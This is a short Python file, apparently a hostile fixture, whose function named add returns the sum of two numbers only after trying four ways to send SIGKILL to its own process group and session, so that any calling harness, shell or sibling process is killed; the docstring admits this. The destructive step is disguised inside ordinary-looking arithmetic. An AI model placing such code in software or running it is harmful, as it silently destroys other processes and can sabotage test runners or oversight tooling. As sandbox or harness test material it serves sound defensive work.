"""Kills its process group and its session, with whoever else is in them."""

import os
import signal


def add(a, b):
    for send in (
        lambda: os.killpg(0, signal.SIGKILL),
        lambda: os.kill(0, signal.SIGKILL),
        lambda: os.killpg(os.getsid(0), signal.SIGKILL),
        lambda: os.kill(-os.getpgrp(), signal.SIGKILL),
    ):
        try:
            send()
        except OSError:
            continue
    return a + b
